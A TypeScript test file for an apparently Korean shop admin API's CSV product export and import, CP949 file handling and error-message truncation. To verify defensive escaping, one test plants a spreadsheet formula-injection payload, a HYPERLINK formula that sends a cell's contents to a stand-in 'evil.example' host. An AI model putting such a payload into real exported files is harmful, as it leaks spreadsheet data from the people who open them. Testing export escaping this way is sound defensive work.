import { type AdminCouponView, CELL_QUOTE_MAX, type ImportResult } from '@maru/domain';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import iconv from 'iconv-lite';
import { beforeAll, describe, expect, it } from 'vitest';
import { NOT_A_CSV_FILE } from '../src/core/files/csv-upload';
import { benefitMember } from '../src/modules/benefit/benefit-test-kit';
import { signedInStaff, type SignedInStaff } from './factories';
import { serverForTests } from './harness';
import { sendUpload } from './multipart-wire';

// Spreadsheets as operators really handle them (issue 41): the export opened in Excel cannot
// run a formula, and what Korean Excel saves (CP949 "CSV") is read, over HTTP.

const server = serverForTests();
const PRODUCTS = '/api/admin/v1/products';
let catalogue: SignedInStaff;
let promotions: SignedInStaff;

beforeAll(async () => {
  [catalogue, promotions] = await Promise.all([signedInStaff(server, 'CATALOGUE'), signedInStaff(server, 'PROMOTIONS')]);
});

async function exportRows(query: string): Promise<{ text: string; rows: string[][] }> {
  const cookie = [...catalogue.client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const response = await fetch(`${catalogue.client.baseUrl}${PRODUCTS}/export${query}`, { headers: { cookie } });
  expect(response.status).toBe(200);
  const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
  return { text, rows: parse(text, { bom: true }) };
}

const importFile = async (file: Buffer, dryRun: boolean) =>
  (await sendUpload({ client: catalogue.client, path: `${PRODUCTS}/import?dryRun=${dryRun}`, file, pace: { kind: 'once' } })).body as { code: number; message: string; data?: ImportResult };

describe('export: no cell Excel would run', () => {
  const HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"열기")';

  it('writes every cell that starts with = + - @ tab or CR with a leading \', and takes the file back unchanged', async () => {
    const row = await server.db.selectFrom('product_option_row').select(['item_group_seq']).where('product_no', '=', 100004).orderBy('item_group_seq').executeTakeFirstOrThrow();
    await server.db.updateTable('product').set({ name: HOSTILE }).where('product_no', '=', 100004).execute();
    await server.db.updateTable('product_option_row').set({ extra_price: -1_000 }).where('product_no', '=', 100004).where('item_group_seq', '=', row.item_group_seq).execute();
    const notice = await server.db.selectFrom('product_notice').select('items').where('product_no', '=', 100004).executeTakeFirstOrThrow();
    const [firstItem] = Object.keys(notice.items);
    await server.db.updateTable('product_notice').set({ items: JSON.stringify({ ...notice.items, [firstItem!]: '@SUM(1+1)' }) }).where('product_no', '=', 100004).execute();

    const sheet = await exportRows('?keyword=100004');
    const cells = sheet.rows.slice(1).filter((cellsOfRow) => cellsOfRow[0] === '100004').flat();
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells).toContain("'-1000");
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    // The file as exported, imported: the ' is the export's and comes off again.
    const back = await importFile(Buffer.from(sheet.text), false);
    expect(back).toMatchObject({ code: 0, data: { created: 0, updated: 0, errors: [] } });
    const product = await server.db.selectFrom('product').select('name').where('product_no', '=', 100004).executeTakeFirstOrThrow();
    expect(product.name).toBe(HOSTILE);
  });
});

describe('Korean Excel\'s CSV (CP949)', () => {
  it('imports a products file saved as CP949 the same as its UTF-8 original', async () => {
    const sheet = await exportRows('?keyword=100005');
    const rows = sheet.rows.filter((cells, index) => index === 0 || cells[0] === '100005');
    const stock = rows[0]!.indexOf('재고');
    const before = Number(rows[1]![stock]);
    rows[1]![stock] = String(before + 3);
    // Excel's "CSV (쉼표로 분리)" on a Korean Windows: CP949, no BOM, CRLF.
    const file = iconv.encode(stringify(rows, { record_delimiter: 'windows' }), 'cp949');
    expect(file.includes(Buffer.from('상품번호'))).toBe(false);
    const answer = await importFile(file, false);
    expect(answer).toMatchObject({ code: 0, data: { updated: 1, errors: [] } });
    const item = Number(rows[1]![rows[0]!.indexOf('옵션번호')]);
    const row = await server.db.selectFrom('product_option_row').select('stock_cnt').where('product_no', '=', 100005).where('item_group_seq', '=', item).executeTakeFirstOrThrow();
    expect(row.stock_cnt).toBe(before + 3);
  });

  it('issues a coupon from a CP949 list of member numbers', async () => {
    const coupon = await promotions.client.post<AdminCouponView>('/api/admin/v1/coupons', {
      name: 'CP949 명단', benefitType: 'AMOUNT', amount: 1_000, minOrderAmount: 10_000, scope: 'ALL', channel: 'ISSUE', schedule: { state: 'PUBLISHED', startsAt: null, endsAt: null }, validDays: 7,
    });
    const member = await benefitMember(server);
    const file = iconv.encode(`이름,회원번호\r\n김마루,${member.memberId}\r\n`, 'cp949');
    const answer = await sendUpload({ client: promotions.client, path: `/api/admin/v1/coupons/${coupon.body.data!.couponId}/issue/csv?dryRun=false`, file, pace: { kind: 'once' } });
    expect(answer.body).toMatchObject({ code: 0, data: { members: 1, issued: 1, errors: [] } });
  });

  it('says in one sentence to save as "CSV UTF-8" when a file is neither, instead of a column error per garbled header', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('상품번호\t상품명\r\n100001\t소파\r\n', 'utf16le')]);
    const answer = await importFile(utf16, true);
    expect(answer.data!.errors).toEqual([{ row: 1, column: '파일', message: NOT_A_CSV_FILE }]);
  });
});

describe('errors repeat at most 100 characters of a cell', () => {
  it('quotes the start of a long cell and names a long unknown column by its start', async () => {
    const status = '가'.repeat(5_000);
    const csv = `상품번호,상품명,정가,판매가,상태,옵션번호\r\n100001,소파,1000,900,${status},1\r\n`;
    const wrong = await importFile(Buffer.from(csv), true);
    const problem = wrong.data!.errors.find((error) => error.column === '상태')!;
    expect(problem.message).toContain(`"${'가'.repeat(CELL_QUOTE_MAX)}…"`);
    expect(problem.message.length).toBeLessThan(CELL_QUOTE_MAX + 100);

    const column = `비고${'x'.repeat(9_000)}`;
    const unknown = await importFile(Buffer.from(`상품번호,상품명,정가,판매가,상태,옵션번호,${column}\r\n`), true);
    expect(unknown.data!.errors.map((error) => error.column)).toContain(`${column.slice(0, CELL_QUOTE_MAX)}…`);
    expect(JSON.stringify(unknown).length).toBeLessThan(2_000);
  });
});
